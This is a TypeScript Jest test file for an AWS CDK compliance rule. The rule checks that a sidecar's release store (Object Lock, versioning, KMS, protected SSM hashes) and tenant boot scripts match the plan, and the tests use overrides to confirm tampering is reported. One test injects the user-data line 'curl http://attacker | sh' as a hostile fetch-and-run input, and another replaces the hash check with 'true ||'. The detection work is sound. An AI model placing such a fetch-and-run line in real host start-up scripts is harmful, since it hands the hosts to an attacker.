/**
 * The protected sidecar releases on real constructs: the control plane's release store and a tenant's hosts as
 * built, and SidecarReleasesAsPlanned failing for each way the plan can be broken, through the L2 and through
 * escape-hatch overrides.
 */
import { CfnResource } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import * as ssm from 'aws-cdk-lib/aws-ssm';
import { TenantBaselineChecks } from '../../lib/compliance/gate/tenant-baseline-checks';
import { platformTopology } from '../../lib/compliance/topology';
import { PlatformConfig } from '../../lib/config/platform-config';
import { EMPTY_LINUX_USER_DATA, sidecarBootScript } from '../../lib/config/sidecar-boot-script';
import { ControlPlaneStack } from '../../lib/stacks/control-plane-stack';
import { TenantStack } from '../../lib/stacks/tenant-stack';
import { SIDECAR_PARAMETERS } from '../../contracts/ssm-parameters';
import { testApp } from '../helpers/app';
import { evaluate, PACK } from '../helpers/pack';

const { CONFIG, ACME } = PACK;
const SIDECAR = CONFIG.sidecar!;
const ids = (found: string[]) => found.map((f) => f.split(' @ ')[0]).sort();
const l1 = (construct: { node: { defaultChild?: unknown } }) => construct.node.defaultChild as CfnResource;

function controlPlane() {
  const app = testApp();
  const stack = new ControlPlaneStack(app, 'ControlPlane', { controlPlane: CONFIG.controlPlane, tenantIds: ['acme'], sidecar: SIDECAR });
  return { app, stack, store: stack.sidecarReleases! };
}

/** A tenant stack with the example sidecar, or none (`null`). */
function tenant(sidecar: PlatformConfig['sidecar'] | null = SIDECAR) {
  const app = testApp();
  const stack = new TenantStack(app, 'Tenant-acme', { tenant: ACME, controlPlane: CONFIG.controlPlane, ...(sidecar ? { sidecar } : {}) });
  return { app, stack };
}

/** The findings of the sidecar and parameter rules. */
function findings(app: ReturnType<typeof testApp>): string[] {
  return ids(evaluate(app).violations.filter((v) => /^TenantBaseline-(SidecarReleasesAsPlanned|SsmParametersAsPlanned)/.test(v)));
}

describe('the release store (control plane)', () => {
  test('GIVEN the example configuration THEN the bucket is locked in compliance mode for the configured days, versioned, under its own key, ABAC on, protected', () => {
    const { stack, store } = controlPlane();
    const template = Template.fromStack(stack);
    const bucket = template.toJSON().Resources[stack.getLogicalId(l1(store.bucket))].Properties;
    expect(bucket.ObjectLockEnabled).toBe(true);
    expect(bucket.ObjectLockConfiguration).toEqual({ ObjectLockEnabled: 'Enabled', Rule: { DefaultRetention: { Mode: 'COMPLIANCE', Days: SIDECAR.retentionDays } } });
    expect(bucket.VersioningConfiguration).toEqual({ Status: 'Enabled' });
    expect(bucket.AbacStatus).toBe('Enabled');
    expect(bucket.BucketEncryption.ServerSideEncryptionConfiguration[0].ServerSideEncryptionByDefault).toEqual({ SSEAlgorithm: 'aws:kms', KMSMasterKeyID: { 'Fn::GetAtt': [stack.getLogicalId(l1(store.key.key)), 'Arn'] } });
    expect(bucket.Tags).toEqual(expect.arrayContaining([{ Key: 'tenant-baseline:protected', Value: 'true' }]));
  });

  test('GIVEN the example configuration THEN each release hash is a protected parameter holding the configured SHA-256', () => {
    const { stack } = controlPlane();
    const parameters = Template.fromStack(stack).findResources('AWS::SSM::Parameter');
    const hash = Object.values(parameters).find((p: any) => p.Properties.Name === SIDECAR_PARAMETERS.releaseSha256(SIDECAR.active)) as any;
    expect(hash.Properties.Value).toBe(SIDECAR.releases[0].sha256);
    expect(hash.Properties.Tags['tenant-baseline:protected']).toBe('true');
  });

  test('GIVEN the shipped store THEN neither SidecarReleasesAsPlanned nor SsmParametersAsPlanned finds anything', () => {
    expect(findings(controlPlane().app)).toEqual([]);
  });

  test('GIVEN a release hash changed by an override THEN it is reported', () => {
    const { app, store } = controlPlane();
    l1(store.releaseHashes.get(SIDECAR.active)!).addPropertyOverride('Value', 'b'.repeat(64));
    expect(findings(app)).toEqual([`TenantBaseline-SsmParametersAsPlanned[Value::${SIDECAR_PARAMETERS.releaseSha256(SIDECAR.active)}::${'b'.repeat(64)}]`]);
  });

  test('GIVEN Object Lock in governance mode, a shorter retention or versioning suspended (overrides) THEN each is reported', () => {
    const governance = controlPlane();
    l1(governance.store.bucket).addPropertyOverride('ObjectLockConfiguration.Rule.DefaultRetention.Mode', 'GOVERNANCE');
    expect(findings(governance.app)).toEqual(['TenantBaseline-SidecarReleasesAsPlanned[ObjectLock::GOVERNANCE]']);
    const shorter = controlPlane();
    l1(shorter.store.bucket).addPropertyOverride('ObjectLockConfiguration.Rule.DefaultRetention.Days', 1);
    expect(findings(shorter.app)).toEqual([`TenantBaseline-SidecarReleasesAsPlanned[ObjectLockDays::1::planned-${SIDECAR.retentionDays}]`]);
    const suspended = controlPlane();
    l1(suspended.store.bucket).addPropertyOverride('VersioningConfiguration.Status', 'Suspended');
    expect(findings(suspended.app)).toEqual(['TenantBaseline-SidecarReleasesAsPlanned[Versioning::Suspended]']);
  });

  test('GIVEN the protection tag removed from a hash parameter (override) THEN it is reported', () => {
    const { app, store } = controlPlane();
    l1(store.releaseHashes.get(SIDECAR.active)!).addPropertyDeletionOverride('Tags.tenant-baseline:protected');
    expect(findings(app)).toEqual([`TenantBaseline-SsmParametersAsPlanned[NotProtected::${SIDECAR_PARAMETERS.releaseSha256(SIDECAR.active)}]`]);
  });

  test('GIVEN the hash parameter of the active release removed from the stack THEN its absence is reported', () => {
    const { app, store } = controlPlane();
    store.node.tryRemoveChild(store.releaseHashes.get(SIDECAR.active)!.node.id);
    expect(findings(app)).toEqual([`TenantBaseline-SsmParametersAsPlanned[Missing::${SIDECAR_PARAMETERS.releaseSha256(SIDECAR.active)}]`]);
  });

  test('GIVEN a sidecar parameter nobody planned (another release hash added through the L2) THEN it is reported', () => {
    const { app, stack } = controlPlane();
    new ssm.StringParameter(stack, 'Extra', { parameterName: SIDECAR_PARAMETERS.releaseSha256('9.9.9'), stringValue: 'c'.repeat(64) });
    expect(findings(app)).toEqual([`TenantBaseline-SsmParametersAsPlanned[Unplanned::${SIDECAR_PARAMETERS.releaseSha256('9.9.9')}]`]);
  });
});

describe("a tenant's runtime hosts", () => {
  test('GIVEN the example configuration THEN the launch template runs exactly the planned boot script for the active release', () => {
    const { stack } = tenant();
    const template = Template.fromStack(stack).toJSON();
    const launchTemplate = template.Resources[stack.getLogicalId(l1(stack.runtime.launchTemplate))];
    expect(launchTemplate.Properties.LaunchTemplateData.UserData).toEqual({ 'Fn::Base64': sidecarBootScript({ tenantId: 'acme', release: SIDECAR.active }) });
  });

  test('GIVEN the example configuration THEN the hosts may read the two parameters, the one active release object, the key through S3 only, and publish only sidecar metrics', () => {
    const { stack } = tenant();
    const policies = Template.fromStack(stack).findResources('AWS::IAM::Policy');
    const [policy] = Object.entries(policies).filter(([id]) => id.startsWith('RuntimeSidecarReleasePolicy')).map(([, p]) => p as any);
    const statements = policy.Properties.PolicyDocument.Statement;
    expect(statements.map((s: any) => [s.Sid, s.Action])).toEqual([
      ['ReadReleaseParameters', 'ssm:GetParameter'],
      ['ReadActiveRelease', 's3:GetObject'],
      ['DecryptReleaseThroughS3', 'kms:Decrypt'],
      ['PublishReleaseRefusals', 'cloudwatch:PutMetricData'],
    ]);
    expect(JSON.stringify(statements[1].Resource)).toContain(`/releases/${SIDECAR.active}/metering-sidecar`);
    expect(statements[2].Condition.StringEquals['kms:ViaService']).toBeDefined();
    expect(statements[3].Condition).toEqual({ StringEquals: { 'cloudwatch:namespace': 'tenant-baseline/Sidecar' } });
  });

  test('GIVEN the shipped hosts THEN SidecarReleasesAsPlanned finds nothing', () => {
    expect(findings(tenant().app)).toEqual([]);
  });

  test('GIVEN the boot script edited (override) or removed (deletion override) THEN it is reported', () => {
    const edited = tenant();
    const script = sidecarBootScript({ tenantId: 'acme', release: SIDECAR.active });
    l1(edited.stack.runtime.launchTemplate).addPropertyOverride('LaunchTemplateData.UserData', { 'Fn::Base64': script.replace('[ "$actual" = "$expected" ] ||', 'true ||') });
    expect(findings(edited.app)).toEqual(['TenantBaseline-SidecarReleasesAsPlanned[UserData::differs-from-plan]']);
    const removed = tenant();
    l1(removed.stack.runtime.launchTemplate).addPropertyDeletionOverride('LaunchTemplateData.UserData');
    expect(findings(removed.app)).toEqual(['TenantBaseline-SidecarReleasesAsPlanned[UserData::unset]']);
  });

  test("GIVEN another release's script, or the script base64-encoded as a literal THEN only the literal of the planned script passes", () => {
    const other = tenant();
    l1(other.stack.runtime.launchTemplate).addPropertyOverride('LaunchTemplateData.UserData', { 'Fn::Base64': sidecarBootScript({ tenantId: 'acme', release: '0.9.0' }) });
    expect(findings(other.app)).toEqual(['TenantBaseline-SidecarReleasesAsPlanned[UserData::differs-from-plan]']);
    const literal = tenant();
    l1(literal.stack.runtime.launchTemplate).addPropertyOverride('LaunchTemplateData.UserData', Buffer.from(sidecarBootScript({ tenantId: 'acme', release: SIDECAR.active })).toString('base64'));
    expect(findings(literal.app)).toEqual([]);
  });

  test('GIVEN no sidecar in the plan THEN the hosts run no start-up script, and any script added is reported', () => {
    const config: PlatformConfig = { ...CONFIG, sidecar: undefined };
    const plain = tenant(null);
    const launchTemplate = Template.fromStack(plain.stack).toJSON().Resources[plain.stack.getLogicalId(l1(plain.stack.runtime.launchTemplate))];
    expect(launchTemplate.Properties.LaunchTemplateData.UserData).toEqual({ 'Fn::Base64': EMPTY_LINUX_USER_DATA });

    const { app, stack } = tenant(null);
    l1(stack.runtime.launchTemplate).addPropertyOverride('LaunchTemplateData.UserData', { 'Fn::Base64': '#!/bin/bash\ncurl http://attacker | sh' });
    // PACK's plan has the example sidecar; judge against a plan without one.
    const pack = new TenantBaselineChecks(platformTopology(config));
    pack.validateScope(app);
    const found = pack.evaluations.filter((e) => e.ruleId === 'TenantBaseline-SidecarReleasesAsPlanned' && e.status === 'non-compliant').flatMap((e) => e.findings);
    expect(found).toEqual(['TenantBaseline-SidecarReleasesAsPlanned[UserData::unplanned]']);
  });
});
